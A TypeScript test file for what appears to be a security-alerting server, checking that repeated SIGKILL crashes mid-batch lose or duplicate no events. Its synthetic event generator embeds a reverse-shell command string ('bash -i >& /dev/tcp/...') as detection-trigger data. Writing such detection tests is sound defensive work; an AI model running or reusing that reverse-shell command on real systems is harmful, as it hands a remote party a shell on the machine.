/** A real server process is killed (SIGKILL) again and again in the middle of batches: nothing is lost, nothing comes twice. */
import assert from 'node:assert/strict'
import { type ChildProcess, spawn } from 'node:child_process'
import { once } from 'node:events'
import { rmSync } from 'node:fs'
import { createServer } from 'node:net'
import { join } from 'node:path'
import { createInterface } from 'node:readline'
import { test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { type Alert, Database, SqliteAlertStore } from '@rampart/alert'
import { SegmentArchive } from './archive/segment-archive.ts'
import { migrations } from './store/migrations.ts'
import { enrolAgent, TestAgent } from './testing/test-agent.ts'
import { startTestServer, temporaryDirectory, writeTestModels } from './testing/test-server.ts'

const main = fileURLToPath(new URL('./testing/server-process.ts', import.meta.url))
const batches = 150
const eventsPerBatch = 20
const kills = 6
const base = Date.now() - 60_000

interface Ready {
  agentUrl: string
  token: string
}

async function freePort(): Promise<number> {
  const server = createServer().listen(0, '127.0.0.1')
  await once(server, 'listening')
  const { port } = server.address() as { port: number }
  server.close()
  return port
}

function startProcess(directory: string, port: number): { child: ChildProcess; ready: Promise<Ready> } {
  const models = join(directory, 'models')
  const child = spawn(
    process.execPath,
    [
      ...['--disable-warning=ExperimentalWarning', main, '--state', join(directory, 'state'), '--models', models],
      ...['--listen', '127.0.0.1:0', '--agent-listen', `127.0.0.1:${port}`, '--log', 'none'],
      ...['--indicators', join(directory, 'none'), '--checkpoint-ms', '100'],
    ],
    { stdio: ['ignore', 'pipe', 'inherit'] },
  )
  const ready = new Promise<Ready>((resolve, reject) => {
    createInterface({ input: child.stdout as NodeJS.ReadableStream }).once('line', (line) => resolve(JSON.parse(line)))
    child.once('exit', (code) => reject(new Error(`ended with ${code}`)))
  })
  ready.catch(() => {})
  return { child, ready }
}

/** One batch; its content follows from its number alone. Every seventh event fires a model, some count towards a window. */
function batchOf(agent: TestAgent, sequence: number): Record<string, unknown>[] {
  return Array.from({ length: eventsPerBatch }, (_, index) => {
    const number = (sequence - 1) * eventsPerBatch + index + 1
    const command =
      number % 7 === 0
        ? `bash -i >& /dev/tcp/198.51.100.7/${number % 5}`
        : number % 11 === 0
          ? 'count-me'
          : `ls ${number}`
    return { ...agent.started(number, command), at: base + number }
  })
}

/** Sends everything that is not acknowledged, again and again, until all is. */
async function deliverAll(agent: TestAgent): Promise<void> {
  while (agent.acknowledged < batches) {
    try {
      await agent.connect()
      for (let next = agent.acknowledged + 1; next <= batches; next++) {
        agent.sendBatch(next, batchOf(agent, next))
        await agent.until(() => agent.acknowledged > next - 8)
      }
      await agent.until(() => agent.acknowledged >= batches)
    } catch {
      await new Promise((resolve) => setTimeout(resolve, 50))
    }
  }
  agent.cut()
}

/** What the alerts say, without ids that depend on the asset. */
function described(alerts: Alert[]): unknown[] {
  return alerts
    .map(({ title, entity, count, firstAt, lastAt }) => ({
      title,
      entity,
      count,
      firstAt,
      lastAt,
    }))
    .sort((one, other) => one.firstAt - other.firstAt || one.title.localeCompare(other.title))
}

async function readState(state: string): Promise<{ alerts: unknown[]; eventIds: string[] }> {
  const opened = Database.open(join(state, 'rampart.db'), migrations)
  assert.ok(opened.ok)
  const store = new SqliteAlertStore(opened.database)
  const page = await store.list({ handled: 'all', sort: 'firstAt', order: 'asc', limit: 500 })
  opened.database.close()
  const archive = await SegmentArchive.open(join(state, 'events'))
  const eventIds: string[] = []
  for await (const batch of archive.batches({ segment: 0, offset: 0 }))
    if (batch.source !== 'server') for (const event of batch.events) eventIds.push(event.id)
  await archive.close()
  return { alerts: described(page.items.filter((alert) => alert.type !== 'Other')), eventIds }
}

test('SIGKILL in the middle of batches loses nothing and repeats nothing', async (t) => {
  const control = await startTestServer({ checkpointMs: 100 })
  t.after(control.end)
  const calm = new TestAgent(await enrolAgent(control.server.createEnrolmentToken().token))
  await deliverAll(calm)
  await control.server.stop()
  const expected = await readState(join(control.directory, 'state'))
  assert.equal(expected.eventIds.length, batches * eventsPerBatch)
  assert.ok(expected.alerts.length >= 6, JSON.stringify(expected.alerts))

  const directory = temporaryDirectory()
  writeTestModels(join(directory, 'models'))
  const port = await freePort()
  let running = startProcess(directory, port)
  t.after(() => {
    running.child.kill('SIGKILL')
    rmSync(directory, { recursive: true, force: true })
  })
  const agent = new TestAgent(await enrolAgent((await running.ready).token))
  let delivered = false
  const delivery = deliverAll(agent).then(() => {
    delivered = true
  })
  for (let kill = 1; kill <= kills && !delivered; kill++) {
    const from = agent.acknowledged
    const after = Math.floor((batches / (kills + 1)) * (0.5 + ((kill * 0.37) % 1)))
    while (!delivered && agent.acknowledged < from + after) await new Promise((resolve) => setTimeout(resolve, 1))
    running.child.kill('SIGKILL')
    await once(running.child, 'exit')
    running = startProcess(directory, port)
    await running.ready
  }
  await delivery
  running.child.kill('SIGTERM')
  const [code] = await once(running.child, 'exit')
  assert.equal(code, 0)

  const found = await readState(join(directory, 'state'))
  assert.equal(found.eventIds.length, new Set(found.eventIds).size, 'no event twice')
  assert.equal(found.eventIds.length, batches * eventsPerBatch, 'no event lost')
  assert.deepEqual(found.alerts, expected.alerts)
})
